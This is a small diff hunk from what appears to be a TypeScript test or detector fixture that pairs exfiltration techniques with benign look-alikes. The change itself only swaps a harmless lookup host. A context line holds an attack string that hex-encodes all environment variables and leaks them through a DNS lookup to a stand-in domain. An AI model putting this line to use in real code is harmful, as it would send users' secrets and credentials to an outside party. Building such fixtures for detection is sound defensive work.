@@ -17,7 +17,7 @@ const WAYS: readonly (readonly [way: string, attack: string, twin: string])[] = 
   [
     'names that carry data',
     "dns.lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.x.example')",
-    "dns.lookup('registry.npmjs.org', done)",
+    "dns.lookup('packages.example.org', done)",
   ],
   [
     'look-ups in Python',
